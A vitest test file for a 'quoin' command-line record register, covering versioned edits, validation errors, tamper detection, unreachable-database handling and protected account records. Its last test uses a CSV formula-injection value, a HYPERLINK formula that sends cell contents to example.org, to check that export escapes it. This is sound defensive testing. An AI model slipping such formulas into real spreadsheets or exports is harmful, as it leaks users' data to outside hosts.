import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { quoin } from "../command-line.ts";

let folder = "";
let workspace = "";
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "quoin-register-"));
  workspace = join(folder, "office");
  expect(await quoin("init", workspace)).toMatchObject({ exitCode: 0 });
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function put(type: string, id: string, data: unknown, ...options: string[]): ReturnType<typeof quoin> {
  const path = join(folder, "data.json");
  await writeFile(path, typeof data === "string" ? data : JSON.stringify(data));
  return quoin("record", "put", workspace, type, id, "--data", path, "--json", ...options);
}

test("a card is made, changed and explained by its history", async () => {
  await put("technology-system", "display", { labels: { zh: "显示面板", en: "Display panels" } });
  await put("link", "evaporation", { labels: { zh: "蒸镀" }, system: "display", line: "support" });
  const made = await put(
    "item",
    "mask",
    { labels: { zh: "精细金属掩模版" }, link: "evaporation", list: "manufacturing-equipment", needed: true },
    "--by",
    "李",
  );
  expect(made.exitCode).toBe(0);
  expect(JSON.parse(made.stdout)).toMatchObject({ id: "mask", needed: true, producers: [], source: null, synthetic: false, version: 1 });
  await put("organisation", "maker", { labels: { zh: "某厂" } });
  const changed = await put(
    "item",
    "mask",
    { producers: ["maker"], producers_as_of: "2026-01-01", source: "a visit", trl: 6 },
    "--if-version",
    "1",
    "--by",
    "王",
    "--reason",
    "核实",
  );
  expect(JSON.parse(changed.stdout)).toMatchObject({ producers: ["maker"], trl: 6, version: 2 });
  const { changes } = JSON.parse((await quoin("history", workspace, "item", "mask", "--json")).stdout);
  expect(changes).toMatchObject([
    { version: 1, who: "李", before: null },
    { version: 2, who: "王", reason: "核实", before: { producers: [] }, after: { producers: ["maker"] } },
  ]);
  expect((await quoin("history", workspace, "item", "mask", "--lang", "zh")).stdout).toContain('producers: [] → ["maker"]');
});

test("a stale version exits 3 and changes nothing", async () => {
  await put("fund", "f", { labels: { en: "F" } });
  await put("fund", "f", { rules: "first" }, "--if-version", "1");
  const late = await put("fund", "f", { rules: "late" }, "--if-version", "1");
  expect(late).toMatchObject({ exitCode: 3, stdout: "" });
  expect(late.stderr).toContain("error[record.stale]");
  expect(JSON.parse((await quoin("record", "get", workspace, "fund", "f", "--json")).stdout)).toMatchObject({ rules: "first", version: 2 });
});

test.each([
  ["an unknown field", { labels: { en: "x" }, colour: "red" }, "error[record.unknown-field] fund:colour"],
  ["a broken reference", { labels: { en: "x" }, region: "999999" }, "error[record.broken-reference] fund:region"],
  ["a wrong type", { labels: { en: "x" }, projects: "many" }, "error[record.not-number] fund:projects"],
  ["no object", [1], "error[input.invalid] --data must be an object { … }"],
  ["no JSON", "{", "error[input.not-json]"],
])("%s exits 2 and names the field", async (_, data, line) => {
  const run = await put("fund", "new", data);
  expect(run).toMatchObject({ exitCode: 2, stdout: "" });
  expect(run.stderr).toContain(line);
  expect(run.stderr).toContain("\n  fix: ");
  expect((await quoin("record", "get", workspace, "fund", "new")).exitCode).toBe(2);
});

test("a refusal tells broken references beside faults of form, each with its path", async () => {
  const run = await put("fund", "new", { labels: { en: "x" }, colour: "red", region: "999999", projects: 1.5 });
  expect(run.exitCode).toBe(2);
  for (const line of ["[record.unknown-field] fund:colour", "[record.broken-reference] fund:region"]) expect(run.stderr).toContain(line);
  const nested = await put("item", "new", { labels: { en: "x" }, link: "none", list: "manufacturing-equipment", producers: ["a", 5] });
  expect(nested.stderr).toContain("error[record.not-text] item:producers.1");
  expect(nested.stderr).toContain("error[record.broken-reference] item:link");
});

test("what does not exist exits 2", async () => {
  for (const words of [
    ["record", "get", workspace, "fund", "nobody"],
    ["record", "retire", workspace, "fund", "nobody"],
    ["history", workspace, "fund", "nobody"],
    ["record", "list", workspace, "funds"],
    ["record", "put", workspace, "fund", "g", "--data", join(folder, "none.json")],
    ["record", "put", workspace, "fund", "g"],
    ["record", "list", join(folder, "nowhere"), "fund"],
  ])
    expect([words, (await quoin(...words)).exitCode]).toEqual([words, 2]);
});

test("verify exits 2 where a byte of the store was changed, and says so where the store is no store any more", async () => {
  await put("fund", "watched", { labels: { en: "F" } });
  expect(await put("comment", "c", { about: { type: "fund", id: "watched" }, text: "to be watched closely" })).toMatchObject({ exitCode: 0, stderr: "" });
  const well = await quoin("verify", workspace, "--json");
  expect([well.exitCode, JSON.parse(well.stdout)]).toMatchObject([0, { ok: true, problems: [] }]);
  const whole = await readFile(join(workspace, ".quoin", "records.db"));
  // The record and its change hold the text; so may a page that is free again, whose bytes mean nothing.
  const touched = Buffer.from(whole.toString("latin1").replaceAll("watched closely", "xatched closely"), "latin1");
  expect(touched.equals(whole)).toBe(false);
  const found = await quoin("verify", await withStore(touched), "--json");
  expect(found.exitCode).toBe(2);
  expect(JSON.parse(found.stdout)).toMatchObject({
    ok: false,
    problems: expect.arrayContaining([expect.objectContaining({ code: "register.changed-history", severity: "error" })]),
  });
  for (const broken of [touched.subarray(0, 3_000), Buffer.from("no database")])
    expect(await quoin("verify", await withStore(broken))).toMatchObject({ exitCode: 2, stderr: expect.stringContaining("error[register.damaged]") });
});

let copies = 0;

/** A copy of the workspace with other bytes in its store. */
async function withStore(bytes: Uint8Array): Promise<string> {
  const copy = join(folder, `copy-${++copies}`);
  await cp(workspace, copy, { recursive: true });
  await writeFile(join(copy, ".quoin", "records.db"), bytes);
  return copy;
}

test("a server that cannot be reached is a fault that says so", async () => {
  process.env["QUOIN_DATABASE_URL"] = "postgresql://nobody:secret@127.0.0.1:1/none";
  try {
    // A folder whose records are on that server.
    const away = join(folder, "away");
    await mkdir(join(away, ".quoin"), { recursive: true });
    for (const file of ["datapackage.json", "quoin.yaml"]) await cp(join(workspace, file), join(away, file));
    await writeFile(join(away, ".quoin", "engine"), "postgres\n");
    await writeFile(join(away, ".quoin", "postgres-schema"), "quoin_away\n");
    const run = await quoin("record", "list", away, "fund");
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("error[register.unreachable]");
    expect(run.stderr).not.toContain("secret");
  } finally {
    delete process.env["QUOIN_DATABASE_URL"];
  }
});

test("what was done to accounts is written by the program, and edited by nobody", async () => {
  const forged = await put("account-change", "forged", { account: "li", action: "password-set" });
  expect([forged.exitCode, forged.stderr.includes("record.commanded")]).toEqual([2, true]);
  expect((await quoin("record", "retire", workspace, "account-change", "any")).stderr).toContain("record.commanded");
});

test("what looks like a formula leaves in a table of records as text, and comes back as it was typed", async () => {
  const name = '=HYPERLINK("http://example.org/?"&A1,"click")';
  expect((await put("organisation", "formula", { labels: { en: name } })).exitCode).toBe(0);
  const file = join(folder, "organisations.csv");
  expect((await quoin("record", "export", workspace, "organisation", "--to", file)).exitCode).toBe(0);
  expect(await readFile(file, "utf8")).toContain(`"'${name.replaceAll('"', '""')}"`);
  const again = await quoin("record", "table", workspace, "organisation", "--data", file, "--json");
  expect(again.exitCode).toBe(0);
  expect(JSON.parse((await quoin("record", "get", workspace, "organisation", "formula", "--json")).stdout)).toMatchObject({ labels: { en: name }, version: 1 });
});
